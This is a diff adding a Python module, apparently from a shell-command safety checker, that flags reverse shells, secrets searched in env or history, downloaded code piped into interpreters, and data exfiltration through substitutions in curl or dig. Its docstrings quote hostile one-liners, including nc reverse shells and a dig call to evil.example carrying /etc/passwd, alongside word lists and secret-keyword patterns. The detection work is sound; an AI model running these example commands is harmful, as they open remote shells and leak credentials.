@@ -1,0 +1,112 @@
+"""What a pipeline does as a whole, and the extra words the first pass must notice for it.
+
+A shell whose input or output is a network client is a reverse shell (`sh -i 2>&1 | nc host
+9`, `cat /tmp/f | /bin/sh -i | nc host 9 > /tmp/f`: `critical`). The environment or a history
+searched for secrets (`env | grep -i token`, `history | grep pass`) prints them (`high`,
+credentials). Interpreter code taken from a download (`python3 -c "$(curl ...)"`) is `high`.
+`EXTRA` names what hostrules.py and these checks need the first pass (triggers.py) to see.
+"""
+
+from __future__ import annotations
+
+import re
+
+from nerve.safety.hostrules import HOST_RULES
+from nerve.safety.lexer import SUB, Command
+from nerve.safety.redirects import SHELLS
+from nerve.safety.sensitive import secret_file
+from nerve.safety.triggers import trie_pattern
+from nerve.safety.verdict import Finding, wordset
+from nerve.safety.wrappers import basename, prog_of
+
+__all__ = ["EXTRA", "judge_pipeline", "judge_subs", "makes_temp"]
+
+_NET = wordset("nc ncat netcat telnet socat openssl")
+_DUMPS = wordset("env printenv history set")
+_SEARCH = wordset("grep egrep fgrep rg ag awk")
+_SECRET_WORD = re.compile(
+    r"pass|secret|token|api_?key|apikey|private|credential|aws_|auth|key$", re.IGNORECASE
+)
+EXTRA = re.compile(
+    r"(?<![\w.-])(?:"
+    + trie_pattern(set(HOST_RULES) | _DUMPS | {"dig", "nslookup", "host", "drill"})
+    + r")(?![\w-])|\.(?:bash_aliases|xinitrc|xprofile|xsession|vimrc|exrc)\b"
+    + r"|serviceaccount|169\.254\.169\.254|metadata\.google"
+)
+
+
+_RUNNERS = wordset("python python3 python2 perl ruby node php lua")
+_ESCAPES = re.compile(r"(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}){3}")
+_ASKERS = wordset("dig nslookup host drill ping curl wget nc ncat")
+_PAYLOADS = wordset("env printenv history whoami id hostname cat base64 xxd head tail tar")
+
+
+def judge_subs(cmd: Command) -> Finding | None:
+    """A network command whose arguments carry what a substitution reads: `curl -d "$(env)"
+    URL`, `dig $(cat /etc/passwd | base64).evil.example`, `curl URL/?k=$(cat ~/.aws/...)`."""
+    prog, args = prog_of(cmd)
+    if prog not in _ASKERS or not cmd.subs:
+        return None
+    built = [a for a in args if SUB in a]
+    if not built:
+        return None
+    for script in cmd.subs:
+        for pipeline in script:
+            for sub in pipeline.commands:
+                src, sub_args = prog_of(sub)
+                if src not in _PAYLOADS and not (sub.words and basename(sub.words[0]) == "env"):
+                    continue
+                named = [a for a in sub_args if "/" in a or a.startswith("~")]
+                sensitive = src in ("env", "printenv", "history", "") or any(
+                    secret_file(a) or a.startswith(("/etc/", "/proc/")) for a in named
+                )
+                in_name = prog in ("dig", "nslookup", "host", "drill", "ping") and any(
+                    SUB + "." in a for a in built
+                )
+                if sensitive or (in_name and src in ("whoami", "id", "hostname")):
+                    why = f"{prog} carries what {src or 'env'} reads off the machine"
+                    return Finding("high", why, "exfiltration")
+    return None
+
+
+def _is_shell(cmd: Command) -> bool:
+    prog, args = prog_of(cmd)
+    if prog not in SHELLS:
+        return False
+    return all(a.startswith("-") and "c" not in a[1:] for a in args)
+
+
+def judge_pipeline(commands: list[Command], i: int) -> Finding | None:
+    """A finding for command i seen with its neighbours; None when the pipeline adds nothing."""
+    prog, args = prog_of(commands[i])
+    if prog in _NET and (
+        (i and _is_shell(commands[i - 1]))
+        or (i + 1 < len(commands) and _is_shell(commands[i + 1]) and i)
+    ):
+        why = f"a shell's input or output goes through {prog} to another host: a reverse shell"
+        return Finding("critical", why, "exfiltration")
+    if i and (_is_shell(commands[i]) or prog in _RUNNERS):
+        for up in commands[:i]:
+            src, up_args = prog_of(up)
+            if src in ("curl", "wget") and i > 1:
+                why = f"code downloaded by {src} reaches {prog} further down the pipe"
+                return Finding("high", why, "code")
+            if src in ("printf", "echo") and any(_ESCAPES.search(a) for a in up_args):
+                why = f"{prog} runs a payload spelled in escape codes by {src}"
+                return Finding("high", why, "code")
+    if prog in _SEARCH and i:
+        words = commands[i - 1].words
+        src = basename(words[0]) if len(words) == 1 else prog_of(commands[i - 1])[0]
+        if src in _DUMPS and any(_SECRET_WORD.search(a) for a in args if not a.startswith("-")):
+            why = f"{prog} picks secrets out of {src}'s output"
+            return Finding("high", why, "credentials")
+    return None
+
+
+def makes_temp(cmd: Command) -> bool:
+    """The command's one substitution is `mktemp` (no -u, no path: under $TMPDIR)."""
+    if len(cmd.subs) != 1 or len(cmd.subs[0]) != 1:
+        return False
+    commands = cmd.subs[0][0].commands
+    words = commands[0].words if len(commands) == 1 else []
+    return words[:1] == ["mktemp"] and all(w.startswith("-") or "/" not in w for w in words)
